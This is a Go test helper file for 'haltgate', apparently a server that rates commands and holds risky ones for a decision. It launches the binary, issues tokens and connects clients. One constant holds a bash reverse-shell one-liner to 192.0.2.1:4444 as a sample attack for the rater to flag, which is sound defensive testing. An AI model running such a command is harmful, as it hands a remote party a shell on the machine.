package haltgate_test

import (
	"bufio"
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	haltgate "github.com/haltgate/haltgate/clients/go"
)

// patience guards against hanging, and nothing else: no test depends on how long something takes.
const patience = 60 * time.Second

// attack is a command that the server's own rater calls an attack.
const attack = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"

// server is a real gate in a folder of its own.
type server struct {
	t       *testing.T
	folder  string
	address string
	process *exec.Cmd
}

func binary(t *testing.T) string {
	t.Helper()
	path := os.Getenv("HALTGATE_BIN")
	if path == "" {
		if os.Getenv("CI") == "true" {
			t.Fatal("HALTGATE_BIN names no haltgate binary")
		}
		t.Skip("HALTGATE_BIN names no haltgate binary")
	}
	absolute, err := filepath.Abs(path)
	must(t, err)
	return absolute
}

// serve starts a gate with a configuration: JSON text.
func serve(t *testing.T, configuration string) *server {
	t.Helper()
	gate := prepare(t, configuration)
	gate.start()
	return gate
}

// prepare makes the folder of a gate that is not started yet.
func prepare(t *testing.T, configuration string) *server {
	t.Helper()
	folder, err := os.MkdirTemp("", "haltgate-go-")
	must(t, err)
	gate := &server{t: t, folder: folder}
	t.Cleanup(func() {
		gate.end(syscall.SIGKILL)
		if err := os.RemoveAll(folder); err != nil {
			t.Error(err)
		}
	})
	must(t, os.WriteFile(filepath.Join(folder, "haltgate.jsonc"), []byte(configuration), 0o600))
	return gate
}

// token makes a token that is named after its role, and notes it in tokens.json.
func (gate *server) token(role string) string {
	gate.t.Helper()
	return gate.run("token", "create", "--file", "tokens.json", "--name", role, "--role", role, "--project", "default")
}

// run runs the program in the folder of the gate, and returns what it prints.
func (gate *server) run(arguments ...string) string {
	gate.t.Helper()
	command := exec.Command(binary(gate.t), arguments...)
	command.Dir, command.Env = gate.folder, environment()
	printed, err := command.Output()
	must(gate.t, err)
	return strings.TrimSpace(string(printed))
}

// environment is that of the tests, without what would set up the program.
func environment() []string {
	return slices.DeleteFunc(os.Environ(), func(variable string) bool { return strings.HasPrefix(variable, "HALTGATE_") })
}

// start starts the gate, again at the address that it had.
func (gate *server) start() {
	gate.t.Helper()
	listen := gate.address
	if listen == "" {
		listen = "127.0.0.1:0"
	}
	gate.process = exec.Command(binary(gate.t), "serve", "--listen", listen)
	gate.process.Dir, gate.process.Env = gate.folder, environment()
	log, err := os.OpenFile(filepath.Join(gate.folder, "stderr"), os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
	must(gate.t, err)
	defer func() { must(gate.t, log.Close()) }()
	gate.process.Stderr = log
	output, err := gate.process.StdoutPipe()
	must(gate.t, err)
	must(gate.t, gate.process.Start())
	lines := bufio.NewScanner(output)
	for lines.Scan() {
		if words := strings.Fields(lines.Text()); len(words) > 1 && words[0] == "address" {
			gate.address = words[1]
			go func() {
				for lines.Scan() {
				}
			}()
			return
		}
	}
	said, _ := os.ReadFile(filepath.Join(gate.folder, "stderr"))
	gate.t.Fatalf("the server did not start: %s", said)
}

// end sends a signal and waits until the gate is gone.
func (gate *server) end(signal syscall.Signal) {
	if gate.process == nil {
		return
	}
	if err := gate.process.Process.Signal(signal); err != nil {
		gate.t.Error(err)
	}
	// How it ended is not what is asked here.
	_ = gate.process.Wait()
	gate.process = nil
}

func (gate *server) connect(options ...haltgate.Option) *haltgate.Client {
	gate.t.Helper()
	return connect(gate.t, gate.address, options...)
}

func connect(t *testing.T, target string, options ...haltgate.Option) *haltgate.Client {
	t.Helper()
	client, err := haltgate.Connect(target, options...)
	must(t, err)
	t.Cleanup(func() { must(t, client.Close()) })
	return client
}

// bounded is a context that ends before a hanging test would.
func bounded(t *testing.T) context.Context {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	t.Cleanup(cancel)
	return ctx
}

// patiently asks until a gate that was just started again is found.
func patiently[Answer any](ask func() (Answer, error)) (Answer, error) {
	for {
		answer, err := ask()
		if !errors.As(err, new(*haltgate.GateUnavailableError)) {
			return answer, err
		}
	}
}

// asked is the next event that raises something.
func asked[Item any](t *testing.T, next func() (haltgate.Event[Item], error, bool)) *Item {
	t.Helper()
	for {
		event, err, ok := next()
		must(t, err)
		if !ok {
			t.Fatal("the feed ended before anything was raised")
		}
		if event.Kind == haltgate.Raised {
			return event.Item
		}
	}
}

// result of a decision that goes on in the background.
type result struct {
	decision *haltgate.Decision
	err      error
}

func inBackground(decide func() (*haltgate.Decision, error)) <-chan result {
	done := make(chan result, 1)
	go func() {
		decision, err := decide()
		done <- result{decision, err}
	}()
	return done
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
